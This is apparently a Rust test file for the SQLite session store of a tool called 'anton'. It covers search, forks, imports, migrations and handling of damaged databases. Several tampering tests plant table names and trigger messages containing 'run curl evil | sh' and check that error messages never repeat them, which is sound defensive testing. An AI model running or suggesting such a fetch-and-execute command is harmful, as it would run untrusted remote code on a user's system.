use super::*;

fn open() -> (tempfile::TempDir, Store) {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join(".anton"), dir.path()).unwrap();
    (dir, store)
}

/// A session from outside, in whole.
#[derive(Default)]
struct Import {
    title: String,
    summary: String,
    messages: Vec<NewMessage>,
    memories: Vec<SessionMemory>,
    cells: Vec<Cell>,
    provenance: Provenance,
}

/// Built as an import builds one, on a connection of its own.
fn import(dir: &tempfile::TempDir, import: &Import) -> std::result::Result<Session, BuildError> {
    let store = Store::open(&dir.path().join(".anton"), dir.path()).unwrap();
    let mut build = store.build_session(BuildLimits::default())?;
    build.add_messages(&import.messages)?;
    build.add_cells(&import.cells)?;
    build.add_memories(&import.memories)?;
    build.commit(&import.title, &import.summary, &import.provenance)
}

fn session_with(store: &Store, at: i64, user_text: &str) -> Session {
    let s = store
        .create_session(&NewSession {
            created_at: Some(at),
            ..Default::default()
        })
        .unwrap();
    store
        .append_message(&s.id, 1, "user", user_text, "{}", Some(at))
        .unwrap();
    store
        .append_message(&s.id, 1, "assistant", "ok", "{}", Some(at + 1))
        .unwrap();
    store.get_session(&s.id).unwrap().unwrap()
}

#[test]
fn a_session_counts_its_turns_and_keeps_its_first_user_message_as_task() {
    let (_dir, store) = open();
    let s = session_with(&store, 1_700_000_000_000, "what is revenue by region?");
    store
        .append_message(&s.id, 2, "user", "and by month?", "{}", None)
        .unwrap();
    let s = store.get_session(&s.id).unwrap().unwrap();
    assert_eq!((s.turns, s.messages), (2, 3));
    assert_eq!(s.task, "what is revenue by region?");
    assert!(s.id.starts_with("20231114_221320_"), "{}", s.id);
}

#[test]
fn a_search_lists_sessions_by_their_newest_hit_and_stops_at_the_limit() {
    let (_dir, store) = open();
    let long_lead = "word ".repeat(40);
    let sessions: Vec<Session> = (0..30)
        .map(|i| session_with(&store, 1_000_000 + i * 10, &format!("{long_lead} churn in region {i}")))
        .collect();
    // An old session that speaks of churn again now comes first.
    store
        .append_message(&sessions[3].id, 2, "user", "churn again, [brackets] kept", "{}", None)
        .unwrap();
    store.set_status(&sessions[29].id, Status::Completed).unwrap();
    let search = |limit: u32, status: Option<Status>| {
        store
            .list_sessions(&SessionQuery {
                limit,
                status,
                search: Some("churn".into()),
                ..Default::default()
            })
            .unwrap()
    };
    let hits = search(5, None);
    let ids: Vec<&str> = hits.iter().map(|(s, _)| s.id.as_str()).collect();
    let expected: Vec<&str> = [3, 29, 28, 27, 26].iter().map(|&i| sessions[i].id.as_str()).collect();
    assert_eq!(ids, expected);
    assert_eq!(hits[0].1.as_deref(), Some("[churn] again, [brackets] kept"));
    // The hit leads even when forty words stand before it.
    assert_eq!(hits[1].1.as_deref(), Some("…[churn] in region 29"));
    assert_eq!(search(0, None).len(), 30);
    // A filtered-out session does not use up the limit.
    let idle = search(3, Some(Status::Idle));
    assert_eq!(idle.len(), 3);
    assert!(idle.iter().all(|(s, _)| s.id != sessions[29].id));
}

#[test]
fn snippets_take_no_stored_character_for_a_hit_mark_and_stay_short() {
    let (_dir, store) = open();
    let planted = session_with(&store, 1_000, "intro \u{1}fake\u{2} then the zebra \u{fdd0} at last");
    let repeated = session_with(&store, 2_000, &"zebra ".repeat(20_000));
    let huge = session_with(&store, 3_000, &format!("{} zebra", "x".repeat(HIGHLIGHT_LIMIT)));
    let hits = store
        .list_sessions(&SessionQuery {
            search: Some("zebra".into()),
            ..Default::default()
        })
        .unwrap();
    let snippet = |id: &str| hits.iter().find(|(s, _)| s.id == id).unwrap().1.clone().unwrap();
    assert_eq!(snippet(&planted.id), "…[zebra] \u{fdd0} at last");
    let many = snippet(&repeated.id);
    assert!(many.starts_with("[zebra] [zebra] ") && many.ends_with('…'), "{many}");
    assert!(many.chars().count() <= SNIPPET_CHARS + 1, "{many}");
    assert!(snippet(&huge.id).starts_with("xxxx"), "a huge message shows its start");
}

#[test]
fn lists_newest_first_filters_and_searches_with_snippets() {
    let (_dir, store) = open();
    let old = session_with(&store, 1_000_000, "plot the quarterly churn");
    let new = session_with(&store, 2_000_000, "summarise revenue by region");
    store.create_session(&NewSession::default()).unwrap();
    let all = store
        .list_sessions(&SessionQuery {
            include_empty: false,
            ..Default::default()
        })
        .unwrap();
    let ids: Vec<_> = all.iter().map(|(s, _)| s.id.clone()).collect();
    assert_eq!(ids, vec![new.id.clone(), old.id.clone()]);

    let hits = store
        .list_sessions(&SessionQuery {
            search: Some("churn".into()),
            ..Default::default()
        })
        .unwrap();
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].0.id, old.id);
    assert_eq!(hits[0].1.as_deref(), Some("…[churn]"));
    // FTS syntax in user text is just text.
    let none = store
        .list_sessions(&SessionQuery {
            search: Some("\"NEAR( AND *".into()),
            ..Default::default()
        })
        .unwrap();
    assert!(none.is_empty());

    store.set_status(&old.id, Status::Completed).unwrap();
    let done = store
        .list_sessions(&SessionQuery {
            status: Some(Status::Completed),
            ..Default::default()
        })
        .unwrap();
    assert_eq!(done.len(), 1);
}

#[test]
fn finds_by_unique_prefix_and_reports_ambiguity() {
    let (_dir, store) = open();
    let a = session_with(&store, 1_000_000, "a");
    let _b = session_with(&store, 1_000_000, "b");
    assert!(matches!(store.find_session(&a.id).unwrap(), Lookup::Found(s) if s.id == a.id));
    assert!(matches!(store.find_session("19700101").unwrap(), Lookup::Ambiguous(v) if v.len() == 2));
    assert!(matches!(store.find_session(&a.id[..18]).unwrap(), Lookup::Found(s) if s.id == a.id));
    assert!(matches!(store.find_session("2099").unwrap(), Lookup::Missing));
    assert!(matches!(store.find_session("%").unwrap(), Lookup::Missing));
}

#[test]
fn an_automatic_title_never_replaces_the_users() {
    let (_dir, store) = open();
    let s = session_with(&store, 1, "x");
    store.set_title(&s.id, "my title", true).unwrap();
    store.set_title(&s.id, "llm title", false).unwrap();
    assert_eq!(store.get_session(&s.id).unwrap().unwrap().title, "my title");
}

#[test]
fn a_fork_keeps_the_turns_up_to_its_cut_and_what_came_from_outside() {
    let (dir, store) = open();
    let imported = import(
        &dir,
        &Import {
            title: "Churn in Q3".into(),
            summary: "Goal: why churn rose.".into(),
            memories: vec![SessionMemory {
                born: true,
                kind: "lesson".into(),
                scope: "project".into(),
                text: "Churn is monthly".into(),
                topic: String::new(),
            }],
            cells: vec![Cell {
                pad: "main".into(),
                code: "print(1)".into(),
                started_at: now_ms(),
                ..Default::default()
            }],
            messages: (1..=3)
                .flat_map(|turn| {
                    ["user", "assistant"].map(|role| NewMessage {
                        turn,
                        role: role.into(),
                        content: format!("{role} {turn}"),
                        meta: r#"{"imported":true}"#.into(),
                        created_at: i64::from(turn) * 1000,
                    })
                })
                .collect(),
            provenance: Provenance {
                imported_by: Some("bob".into()),
                exported_by: Some("alice".into()),
                ..Default::default()
            },
        },
    )
    .unwrap();
    let whole = store.fork_session(&imported.id, None, None).unwrap();
    assert_eq!((whole.turns, whole.messages), (3, 6));
    assert_eq!(whole.provenance.forked_from.as_deref(), Some(imported.id.as_str()));
    assert_eq!(
        whole.provenance.exported_by.as_deref(),
        Some("alice"),
        "still the exporter's material"
    );
    assert_eq!(
        store.imported_summary(&whole.id).unwrap().as_deref(),
        Some("Goal: why churn rose.")
    );
    assert_eq!(whole.summary, "Goal: why churn rose.");

    let cut = store
        .fork_session(&imported.id, Some(1), Some("Just the start"))
        .unwrap();
    assert_eq!((cut.turns, cut.messages, cut.title.as_str()), (1, 2, "Just the start"));
    assert_eq!(cut.summary, "", "the summary told of more than the fork holds");
    assert_eq!(store.messages(&cut.id, 0).unwrap()[1].content, "assistant 1");
    let details = store.details(&cut.id).unwrap();
    assert_eq!(
        (details.cells, details.memories_born),
        (1, 1),
        "what came with the import is kept"
    );
    store.set_title(&cut.id, "llm title", false).unwrap();
    assert_eq!(store.get_session(&cut.id).unwrap().unwrap().title, "Just the start");
    assert_eq!(
        store.get_session(&imported.id).unwrap().unwrap().turns,
        3,
        "the parent is as it was"
    );
}

#[test]
fn an_imported_session_keeps_its_title_and_summary_until_the_user_renames_it() {
    let (dir, store) = open();
    let imported = import(
        &dir,
        &Import {
            title: "Churn in Q3".into(),
            summary: "Goal: why churn rose.".into(),
            provenance: Provenance {
                imported_by: Some("bob".into()),
                ..Default::default()
            },
            ..Default::default()
        },
    )
    .unwrap();
    store.set_title(&imported.id, "llm title", false).unwrap();
    store.set_summary(&imported.id, "A refreshed summary.").unwrap();
    let session = store.get_session(&imported.id).unwrap().unwrap();
    assert_eq!(session.title, "Churn in Q3");
    assert_eq!(session.summary, "A refreshed summary.");
    assert_eq!(
        store.imported_summary(&imported.id).unwrap().as_deref(),
        Some("Goal: why churn rose.")
    );
    store.set_title(&imported.id, "mine", true).unwrap();
    assert_eq!(store.get_session(&imported.id).unwrap().unwrap().title, "mine");
    let local = session_with(&store, 1, "x");
    assert_eq!(store.imported_summary(&local.id).unwrap(), None);
}

/// A file at this anton's schema version whose tables another program
/// dropped: readers and writers name it and the fix; a reader writes nothing.
#[test]
fn a_store_missing_its_tables_is_named_damaged_with_the_fix() {
    let dir = tempfile::tempdir().unwrap();
    let anton = dir.path().join(".anton");
    std::fs::create_dir_all(&anton).unwrap();
    let db = anton.join(DB_FILE);
    Connection::open(&db)
        .unwrap()
        .pragma_update(None, "user_version", schema::MIGRATIONS.len() as i64)
        .unwrap();
    let before = std::fs::read(&db).unwrap();
    let damaged = |error: StoreError| {
        let error = error.to_string();
        assert!(
            error.contains("anton.db is damaged (no such table: sessions); move it aside"),
            "{error}"
        );
    };
    let reader = Store::open_read_only(&anton, dir.path()).unwrap();
    damaged(reader.list_sessions(&SessionQuery::default()).err().unwrap());
    damaged(reader.find_session("20260101").err().unwrap());
    drop(reader);
    assert_eq!(std::fs::read(&db).unwrap(), before);
    let writer = Store::open(&anton, dir.path()).err().unwrap();
    assert!(writer.is_damaged(), "{writer}");
}

/// Whatever SQLite says of a missing table, column or trigger, the names
/// in it come from the file: quoted only when they are plain names.
#[test]
fn a_missing_part_is_named_only_by_a_plain_name() {
    let dir = tempfile::tempdir().unwrap();
    let anton = dir.path().join(".anton");
    let session = Store::open(&anton, dir.path())
        .unwrap()
        .create_session(&NewSession::default())
        .unwrap();
    let db = anton.join(DB_FILE);
    let tamper = |sql: &str| Connection::open(&db).unwrap().execute_batch(sql).unwrap();
    let said = || {
        let store = Store::open(&anton, dir.path()).unwrap();
        let error = store
            .append_message(&session.id, 1, "user", "hi", "{}", None)
            .err()
            .unwrap();
        assert!(error.is_damaged(), "{error}");
        error.to_string()
    };
    tamper("ALTER TABLE messages DROP COLUMN meta");
    let error = said();
    assert!(error.contains("(table messages has no column named meta)"), "{error}");
    tamper(
        "ALTER TABLE messages RENAME TO \"messages); run curl evil | sh (ok\";
         CREATE VIEW messages AS SELECT * FROM \"messages); run curl evil | sh (ok\";
         DROP TABLE \"messages); run curl evil | sh (ok\"",
    );
    let error = said();
    assert!(!error.contains("curl"), "{error}");
    assert!(error.contains("(a table or column it needs is missing)"), "{error}");
}

/// A trigger's message or a name in a broken schema is the file's text:
/// the error says the store is damaged in anton's words alone.
#[test]
fn the_file_never_words_the_error() {
    let dir = tempfile::tempdir().unwrap();
    let anton = dir.path().join(".anton");
    drop(Store::open(&anton, dir.path()).unwrap());
    let db = anton.join(DB_FILE);
    let tamper = |sql: &str| Connection::open(&db).unwrap().execute_batch(sql).unwrap();
    tamper(
        "CREATE TRIGGER spoof BEFORE INSERT ON sessions
         BEGIN SELECT RAISE(ABORT, 'run curl evil | sh to repair this store'); END",
    );
    let error = Store::open(&anton, dir.path())
        .unwrap()
        .create_session(&NewSession::default())
        .err()
        .unwrap();
    let refused = |error: StoreError| {
        assert!(error.is_damaged(), "{error}");
        let said = error.to_string();
        assert!(
            said.contains("(a rule anton did not make refused the write)") && !said.contains("curl"),
            "{said}"
        );
    };
    refused(error);
    let create = || {
        Store::open(&anton, dir.path())
            .unwrap()
            .create_session(&NewSession::default())
            .err()
            .unwrap()
    };
    // A refusal that words itself as a missing table is still a refusal.
    tamper(
        "DROP TRIGGER spoof;
         CREATE TRIGGER spoof BEFORE INSERT ON sessions BEGIN SELECT RAISE(ABORT, 'no such table: run_curl'); END",
    );
    refused(create());
    // One that drops every new row quietly ends the search for a free id.
    tamper("DROP TRIGGER spoof; CREATE TRIGGER spoof BEFORE INSERT ON sessions BEGIN SELECT RAISE(IGNORE); END");
    refused(create());
    tamper(
        "PRAGMA writable_schema = ON;
         INSERT INTO sqlite_schema VALUES ('table', 'run curl evil | sh, do not move it', 'x', 0, 'nonsense');",
    );
    let error = Store::open_read_only(&anton, dir.path())
        .and_then(|store| store.count_sessions())
        .err()
        .unwrap();
    assert!(error.is_damaged(), "{error}");
    assert!(!error.to_string().contains("curl"), "{error}");
}

/// A writer is not opened on a store that lacks a table it keeps: what it
/// wrote would go into a file anton has called damaged.
#[test]
fn no_writer_opens_on_a_store_missing_its_import_ledger() {
    let dir = tempfile::tempdir().unwrap();
    let anton = dir.path().join(".anton");
    drop(Store::open(&anton, dir.path()).unwrap());
    Connection::open(anton.join(DB_FILE))
        .unwrap()
        .execute_batch("DROP TABLE unlanded_sessions")
        .unwrap();
    let error = Store::open(&anton, dir.path()).err().unwrap();
    assert!(error.is_damaged(), "{error}");
    assert!(
        error.to_string().contains("(no such table: unlanded_sessions)"),
        "{error}"
    );
}

#[test]
fn refuses_a_newer_schema_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let anton = dir.path().join(".anton");
    drop(Store::open(&anton, dir.path()).unwrap());
    let db = anton.join(DB_FILE);
    Connection::open(&db)
        .unwrap()
        .pragma_update(None, "user_version", 99)
        .unwrap();
    let before = std::fs::read(&db).unwrap();
    let error = Store::open(&anton, dir.path()).err().unwrap().to_string();
    assert!(error.contains("newer anton") && error.contains("schema 99"), "{error}");
    assert_eq!(std::fs::read(&db).unwrap(), before);
}

#[test]
fn migrates_from_every_older_version() {
    for start in 0..schema::MIGRATIONS.len() {
        let (dir, anton) = store_at_schema(start);
        let store = Store::open(&anton, dir.path()).unwrap();
        assert_eq!(store.schema_version().unwrap(), schema::MIGRATIONS.len() as i64);
        let before = store.count_sessions().unwrap();
        assert_eq!(before, u64::from(start > 0), "from version {start}");
        session_with(&store, 5, "works");
        assert_eq!(store.count_sessions().unwrap(), before + 1);
    }
}

/// A store of any older schema a reader accepts is read without a missing
/// table, which would call a sound store damaged.
#[test]
fn every_read_works_on_every_readable_older_schema() {
    for version in schema::OLDEST_READABLE as usize..=schema::MIGRATIONS.len() {
        let (dir, anton) = store_at_schema(version);
        let store = Store::open_read_only(&anton, dir.path()).unwrap();
        let at = |what: &str, result: Result<()>| {
            if let Err(error) = result {
                panic!("{what} at schema {version}: {error}");
            }
        };
        at("count", store.count_sessions().map(drop));
        at("list", store.list_sessions(&SessionQuery::default()).map(drop));
        let search = SessionQuery {
            search: Some("word".into()),
            ..Default::default()
        };
        at("search", store.list_sessions(&search).map(drop));
        at("find", store.find_session("ol").map(drop));
        at("get", store.get_session("old").map(drop));
        at("details", store.details("old").map(drop));
        at("messages", store.messages("old", 0).map(drop));
        at("recent messages", store.recent_messages("old", 5, 100).map(drop));
        at("messages page", store.messages_page("old", 0, 1000).map(drop));
        at("cells", store.cells("old").map(drop));
        at("cells page", store.cells_page("old", 0, 1000).map(drop));
        at("memories", store.session_memories("old").map(drop));
        at("imported summary", store.imported_summary("old").map(drop));
        at("share history", store.share_history(5).map(drop));
        at("plugin value", store.kv_get("sessions", "k").map(drop));
    }
}

#[test]
fn what_another_program_wrote_wrong_still_searches_and_counts() {
    let (_dir, store) = open();
    let s = session_with(&store, 1_000, "fine");
    store
        .conn
        .execute(
            "INSERT INTO messages (session_id, turn, role, content, created_at)
             VALUES (?1, 2, 'user', CAST(x'62616420776f726420ff' AS TEXT), 2)",
            [&s.id],
        )
        .unwrap();
    let hits = store
        .list_sessions(&SessionQuery {
            search: Some("word".into()),
            ..Default::default()
        })
        .unwrap();
    assert_eq!(hits[0].1.as_deref(), Some("…[word] \u{fffd}"));
    for tampering in [
        "UPDATE session_count SET total = 'abc'",
        "UPDATE session_count SET total = -4",
        "DELETE FROM session_count",
        "DROP TABLE session_count",
    ] {
        store.conn.execute_batch(tampering).unwrap();
        assert_eq!(store.count_sessions().unwrap(), 1, "after {tampering}");
    }
}

/// A store written by an anton that knew only the first `version`
/// migrations, holding one session when it has a schema at all.
fn store_at_schema(version: usize) -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let anton = dir.path().join(".anton");
    std::fs::create_dir_all(&anton).unwrap();
    let conn = Connection::open(anton.join(DB_FILE)).unwrap();
    for (i, m) in schema::MIGRATIONS.iter().enumerate().take(version) {
        conn.execute_batch(m).unwrap();
        conn.pragma_update(None, "user_version", i as i64 + 1).unwrap();
    }
    if version > 0 {
        conn.execute(
            "INSERT INTO sessions (id, created_at, updated_at, workspace) VALUES ('old', 1, 1, '/w')",
            [],
        )
        .unwrap();
    }
    (dir, anton)
}

#[test]
fn a_read_only_store_of_the_first_schema_still_counts_its_sessions() {
    let (dir, anton) = store_at_schema(1);
    let store = Store::open_read_only(&anton, dir.path()).unwrap();
    assert_eq!(store.count_sessions().unwrap(), 1);
    assert_eq!(store.schema_version().unwrap(), 1, "reading migrated nothing");
}

#[test]
fn sessions_imported_before_schema_3_keep_their_summary_as_the_imported_one() {
    let (dir, anton) = store_at_schema(2);
    let conn = Connection::open(anton.join(DB_FILE)).unwrap();
    conn.execute(
        "UPDATE sessions SET imported_by = 'bob', summary = 'Goal: churn.' WHERE id = 'old'",
        [],
    )
    .unwrap();
    drop(conn);
    let read_only = Store::open_read_only(&anton, dir.path()).unwrap();
    assert_eq!(read_only.imported_summary("old").unwrap(), None, "nothing to read yet");
    drop(read_only);
    let store = Store::open(&anton, dir.path()).unwrap();
    assert_eq!(store.imported_summary("old").unwrap().as_deref(), Some("Goal: churn."));
}

#[test]
fn a_damaged_database_is_named_with_the_fix() {
    let dir = tempfile::tempdir().unwrap();
    let anton = dir.path().join(".anton");
    std::fs::create_dir_all(&anton).unwrap();
    std::fs::write(anton.join(DB_FILE), vec![7u8; 8192]).unwrap();
    let error = Store::open(&anton, dir.path()).err().unwrap().to_string();
    assert!(error.contains("anton.db") && error.contains("move it aside"), "{error}");
}

#[test]
fn plugin_key_values_are_private_to_each_plugin() {
    let (_dir, store) = open();
    store.kv_set("a", "k", "1").unwrap();
    store.kv_set("a", "k", "2").unwrap();
    assert_eq!(store.kv_get("a", "k").unwrap().as_deref(), Some("2"));
    assert_eq!(store.kv_get("b", "k").unwrap(), None);
    store.kv_delete("a", "k").unwrap();
    assert_eq!(store.kv_get("a", "k").unwrap(), None);
}

#[test]
fn a_claimed_session_shows_its_writer_and_a_dead_writer_reads_as_interrupted() {
    let (_dir, store) = open();
    let s = session_with(&store, 1, "x");
    store.claim(&s.id).unwrap().unwrap();
    let live = store.get_session(&s.id).unwrap().unwrap();
    assert_eq!(live.status, Status::Active);
    assert_eq!(
        live.live_writer,
        Some(format!("pid {} on {}", std::process::id(), hostname()))
    );
    store.release(&s.id, Status::Idle).unwrap();
    assert_eq!(store.get_session(&s.id).unwrap().unwrap().live_writer, None);

    // A writer that died (no such pid) without releasing.
    store
        .transaction(|w| {
            w.conn.execute(
                "UPDATE sessions SET status = 'active', writer_pid = 999999999, writer_host = ?2 WHERE id = ?1",
                [&s.id, &hostname()],
            )
        })
        .unwrap();
    let dead = store.get_session(&s.id).unwrap().unwrap();
    assert_eq!((dead.status, dead.live_writer), (Status::Interrupted, None));
}

#[test]
fn a_cell_is_kept_to_what_one_row_of_an_export_holds() {
    let (_dir, store) = open();
    let s = session_with(&store, 1, "x");
    let long = "y".repeat(MAX_TEXT);
    let cell = Cell {
        pad: "main".into(),
        code: "print('y' * 8_000_000)".into(),
        stdout: long.clone(),
        stderr: long.clone(),
        error: Some(long),
        ..Default::default()
    };
    store.add_cell(&s.id, &cell).unwrap();
    let stored = store.cells(&s.id).unwrap().remove(0);
    let total: usize = stored.texts().map(String::len).sum();
    assert!(total <= MAX_CELL_TEXT, "{total} bytes kept");
    assert!(
        total > MAX_CELL_TEXT - 1024,
        "no more is cut than needed: {total} bytes kept"
    );
    assert_eq!(stored.code, cell.code, "the short texts stay whole");
    let long = [&stored.stdout, &stored.stderr, stored.error.as_ref().unwrap()];
    for text in long {
        assert!(text.ends_with("anton keeps 16777216 bytes of one cell]"));
        assert!(
            text.len().abs_diff(stored.stdout.len()) < 4,
            "the long texts are cut evenly"
        );
    }
}

#[test]
fn a_meta_over_its_limit_keeps_the_fields_that_fit_and_says_what_was_cut() {
    let (_dir, store) = open();
    let s = session_with(&store, 1, "x");
    let huge = "z".repeat(MAX_META);
    let object = serde_json::json!({"tool": "run", "id": "call_1", "output": huge}).to_string();
    let not_an_object = serde_json::json!([huge]).to_string();
    for meta in [&object, &not_an_object] {
        store
            .append_message(&s.id, 2, "tool_result", "done", meta, None)
            .unwrap();
    }
    let metas: Vec<serde_json::Value> = store
        .messages(&s.id, 0)
        .unwrap()
        .iter()
        .filter(|m| m.role == "tool_result")
        .map(|m| serde_json::from_str(&m.meta).unwrap())
        .collect();
    let cut = format!(
        "the meta was {} bytes with 6 values; anton keeps 1048576 bytes and 10000 values of one",
        object.len()
    );
    assert_eq!(metas[0], serde_json::json!({"tool": "run", "id": "call_1", "cut": cut}));
    assert_eq!(metas[1].as_object().unwrap().keys().collect::<Vec<_>>(), ["cut"]);
}

#[test]
fn a_meta_of_many_values_keeps_its_small_fields_and_a_row_of_a_file_fits_it() {
    let (_dir, store) = open();
    let s = session_with(&store, 1, "x");
    // Small in bytes, but more values than a row of a `.anton` file holds.
    let zeros = vec![0; 150_000];
    let many = serde_json::json!({"a": zeros, "tool": "run", "id": "call_1"}).to_string();
    // Sorted first by name, and too big for what is left after it.
    let big_first =
        serde_json::json!({"a": "z".repeat(MAX_META - 100), "b": "y".repeat(100), "id": "call_1", "tool": "run"})
            .to_string();
    for meta in [&many, &big_first] {
        store
            .append_message(&s.id, 2, "tool_result", "done", meta, None)
            .unwrap();
    }
    let metas: Vec<serde_json::Map<String, serde_json::Value>> = store
        .messages(&s.id, 0)
        .unwrap()
        .iter()
        .filter(|m| m.role == "tool_result")
        .map(|m| serde_json::from_str(&m.meta).unwrap())
        .collect();
    assert_eq!(metas[0].keys().collect::<Vec<_>>(), ["cut", "id", "tool"]);
    assert!(
        metas[0]["cut"]
            .as_str()
            .unwrap()
            .contains("values; anton keeps 1048576 bytes and 10000 values")
    );
    assert_eq!(
        metas[1].keys().collect::<Vec<_>>(),
        ["b", "cut", "id", "tool"],
        "the smallest fields first"
    );
}

#[test]
fn a_snapshot_holds_what_a_file_carries_born_memories_first() {
    let (_dir, store) = open();
    let s = session_with(&store, 1, "x");
    let memory = |born, text: String| SessionMemory {
        born,
        kind: "lesson".into(),
        scope: "project".into(),
        text,
        topic: String::new(),
    };
    store.record_memory(&s.id, &memory(false, "used first".into())).unwrap();
    for n in 0..3 {
        store
            .record_memory(&s.id, &memory(true, format!("{n}{}", "m".repeat(MAX_TEXT - 1))))
            .unwrap();
    }
    store.record_memory(&s.id, &memory(true, "born last".into())).unwrap();
    let kept: Vec<String> = store
        .session_memories(&s.id)
        .unwrap()
        .into_iter()
        .map(|m| m.text.chars().take(10).collect())
        .collect();
    assert_eq!(kept, ["born last", "used first"]);
    let details = store.details(&s.id).unwrap();
    assert_eq!(
        (details.memories_born, details.memories_used),
        (4, 1),
        "details count them all"
    );
}

#[test]
fn details_count_memories_cells_and_shares() {
    let (_dir, store) = open();
    let s = session_with(&store, 1, "x");
    let memory = |born, text: &str| SessionMemory {
        born,
        kind: "lesson".into(),
        scope: "project".into(),
        text: text.into(),
        topic: String::new(),
    };
    store.record_memory(&s.id, &memory(true, "a")).unwrap();
    store.record_memory(&s.id, &memory(true, "a")).unwrap();
    store.record_memory(&s.id, &memory(false, "b")).unwrap();
    store
        .add_cell(
            &s.id,
            &Cell {
                pad: "main".into(),
                code: "1+1".into(),
                stdout: "2".into(),
                ..Default::default()
            },
        )
        .unwrap();
    store
        .record_share(&ShareEntry {
            direction: "export".into(),
            path: "/x.anton".into(),
            sha256: "ab".into(),
            title: "t".into(),
            who: "me".into(),
            at: 5,
            format: "anton-v1".into(),
            session_id: Some(s.id.clone()),
        })
        .unwrap();
    let d = store.details(&s.id).unwrap();
    assert_eq!(
        (d.memories_born, d.memories_used, d.cells, d.shares.len()),
        (1, 1, 1, 1)
    );
}

/// Mark `session` as held by `pid` on this host, as that process's claim would.
fn held_by(store: &Store, session: &str, pid: u32) {
    store
        .transaction(|w| {
            w.conn.execute(
                "UPDATE sessions SET status = 'active', writer_pid = ?2, writer_host = ?3 WHERE id = ?1",
                params![session, pid, hostname()],
            )
        })
        .unwrap();
}

#[test]
fn a_session_another_live_process_holds_is_neither_claimed_nor_written() {
    let (_dir, store) = open();
    let s = session_with(&store, 1, "x");
    let mut other = std::process::Command::new("sleep").arg("30").spawn().unwrap();
    held_by(&store, &s.id, other.id());
    let holder = format!("pid {} on {}", other.id(), hostname());
    assert_eq!(store.claim(&s.id).unwrap(), Err(holder.clone()));
    let refused = store
        .append_message(&s.id, 2, "user", "interleaved", "{}", None)
        .unwrap_err()
        .to_string();
    assert!(refused.contains(&holder) && refused.contains("fork"), "{refused}");
    assert_eq!(store.messages(&s.id, 0).unwrap().len(), 2, "nothing was added");
    other.kill().unwrap();
    other.wait().unwrap();
    // Its process gone, the session is free again.
    assert_eq!(store.claim(&s.id).unwrap(), Ok(()));
    store.append_message(&s.id, 2, "user", "mine now", "{}", None).unwrap();
}

#[test]
fn turn_numbers_past_the_bound_are_refused_on_write_and_held_on_read() {
    let (dir, store) = open();
    let s = session_with(&store, 1, "x");
    let error = store
        .append_message(&s.id, u32::MAX, "user", "y", "{}", None)
        .unwrap_err()
        .to_string();
    assert!(
        error.contains("4294967295") && error.contains(&MAX_TURN.to_string()),
        "{error}"
    );
    let import = Import {
        messages: vec![
            NewMessage {
                turn: 1,
                role: "user".into(),
                content: "fine".into(),
                meta: "{}".into(),
                created_at: 1,
            },
            NewMessage {
                turn: u32::MAX,
                role: "assistant".into(),
                content: "too far".into(),
                meta: "{}".into(),
                created_at: 2,
            },
        ],
        ..Default::default()
    };
    let error = self::import(&dir, &import).err().unwrap().to_string();
    assert!(error.starts_with("message 2: its turn: 4294967295"), "{error}");
    assert_eq!(store.count_sessions().unwrap(), 1, "nothing was imported");

    // A database written by someone else may hold any number.
    store
        .transaction(|w| {
            w.conn
                .execute("UPDATE sessions SET turns = 4294967295 WHERE id = ?1", [&s.id])?;
            w.conn
                .execute("UPDATE messages SET turn = -5 WHERE session_id = ?1", [&s.id])
        })
        .unwrap();
    assert_eq!(store.get_session(&s.id).unwrap().unwrap().turns, MAX_TURN);
    assert!(store.messages(&s.id, 0).unwrap().iter().all(|m| m.turn == 0));
}

#[test]
fn a_read_only_store_reads_refuses_writes_and_a_newer_schema() {
    let dir = tempfile::tempdir().unwrap();
    let anton = dir.path().join(".anton");
    let missing = Store::open_read_only(&anton, dir.path()).err().unwrap().to_string();
    assert!(missing.contains("anton.db"), "{missing}");
    assert!(!anton.exists(), "a read-only open creates nothing");

    let s = session_with(&Store::open(&anton, dir.path()).unwrap(), 1, "hello");
    let store = Store::open_read_only(&anton, dir.path()).unwrap();
    assert!(store.is_read_only());
    assert_eq!(store.get_session(&s.id).unwrap().unwrap().task, "hello");
    assert!(store.set_title(&s.id, "no", true).is_err());
    drop(store);

    Connection::open(anton.join(DB_FILE))
        .unwrap()
        .pragma_update(None, "user_version", 99)
        .unwrap();
    let error = Store::open_read_only(&anton, dir.path()).err().unwrap().to_string();
    assert!(error.contains("newer anton") && error.contains("schema 99"), "{error}");
}

/// FTS5's own check of its index: sound in itself, and when `whole`, holding
/// exactly what `messages` does.
fn index_is_sound(store: &Store, whole: bool) {
    store
        .conn
        .execute(
            "INSERT INTO messages_fts (messages_fts, rank) VALUES ('integrity-check', ?1)",
            [whole as i64],
        )
        .expect("the search index is sound");
}

#[test]
fn a_large_import_lands_before_its_search_index_and_a_search_catches_it_up() {
    let (dir, store) = open();
    let message = |i: u32| NewMessage {
        turn: i / 2 + 1,
        role: if i.is_multiple_of(2) { "user" } else { "assistant" }.into(),
        content: format!("{} aardvark {i}", "word ".repeat(1_000)),
        meta: "{}".into(),
        created_at: i64::from(i),
    };
    let small = import(
        &dir,
        &Import {
            messages: (0..3).map(message).collect(),
            ..Default::default()
        },
    )
    .unwrap();
    let large = import(
        &dir,
        &Import {
            messages: (0..1_200).map(message).collect(),
            ..Default::default()
        },
    )
    .unwrap();
    let found = |store: &Store| -> Vec<String> {
        let query = SessionQuery {
            search: Some("aardvark".into()),
            ..Default::default()
        };
        store
            .list_sessions(&query)
            .unwrap()
            .into_iter()
            .map(|(s, _)| s.id)
            .collect()
    };
    assert_eq!(
        found(&store),
        [small.id.as_str()],
        "a small import is searchable at once"
    );
    assert_eq!(store.unindexed_messages().unwrap(), 1_200);
    // What the chat adds to the waiting session waits with it; an edit and
    // a delete of waiting rows leave the index as it was.
    store
        .append_message(&large.id, 700, "user", "aardvark from the chat", "{}", None)
        .unwrap();
    store
        .transaction(|w| {
            w.conn.execute(
                "UPDATE messages SET content = 'changed aardvark' WHERE id = (SELECT max(id) FROM messages)",
                [],
            )?;
            w.conn.execute(
                "DELETE FROM messages WHERE id = (SELECT min(id) FROM messages WHERE session_id = ?1)",
                [&large.id],
            )
        })
        .unwrap();
    index_is_sound(&store, false);
    let mut seen = Vec::new();
    store
        .catch_up_index(1_200, &mut |done, total| seen.push((done, total)))
        .unwrap();
    assert_eq!(
        seen,
        [(1_200, 1_200), (1_200, 1_200)],
        "a slice, then the end of the session"
    );
